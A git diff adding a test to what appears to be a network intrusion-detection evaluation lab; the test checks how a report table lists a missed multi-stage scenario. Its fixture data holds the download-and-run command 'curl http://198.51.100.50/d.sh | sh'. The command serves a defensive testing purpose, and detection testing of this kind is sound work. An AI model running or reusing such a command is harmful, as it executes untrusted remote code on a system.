@@ -5,10 +5,12 @@ capture meets the goal is tests/integration/test_labelled_captures.py's job."""
 from __future__ import annotations
 
 import csv
+import re
 import subprocess
 import sys
 
-from lab.evaluate import HOLDOUT_FILE, held_out_paths, is_held_out, label_rows
+from lab.evaluate import HOLDOUT_FILE, held_out_paths, is_held_out, label_rows, report
+from lab.scenarios import ScenarioResult
 
 from conftest import DATA, REPO
 
@@ -50,3 +52,16 @@ def test_the_report_counts_each_category_and_shows_the_held_out_part_apart(tmp_p
     assert "| pcaps/portscan/evilfingers_nmap_FIN_SCAN.pcap | yes | lab | portscan |" in text  # nothing public in it
     assert "| `port_scan` | `port_scan` | yes | 2 | 0 |" in text
     assert "Attack captures detected: 2 of 2" in text and "Benign captures with an alert: 0 of 1" in text
+
+
+def test_a_scenario_with_either_of_two_types_and_a_shell_pipe_is_one_row_listed_as_missed():
+    """A scenario expecting ``beaconing|unusual_destination`` whose tool is ``curl ... | sh``, scored
+    with no alert: its row keeps the table's six columns and says missed."""
+    missed = ScenarioResult("multi-stage", "curl http://198.51.100.50/d.sh | sh", "beaconing|unusual_destination",
+                            actor_ip="10.77.0.2", bystanders=["10.77.0.3"])
+    text = report([], "python -m lab.evaluate", [missed], None)
+    row = next(line for line in text.splitlines() if line.startswith("| multi-stage |"))
+    assert len(re.split(r"(?<!\\)\|", row)) == 8  # six cells between the pipes that are not escaped
+    assert "| beaconing or unusual_destination | none | missed | 0 |" in row
+    assert "| beaconing or unusual_destination | 1 | 0 | 0 |" in text
+    assert "Scenarios detected: 0 of 1 run" in text
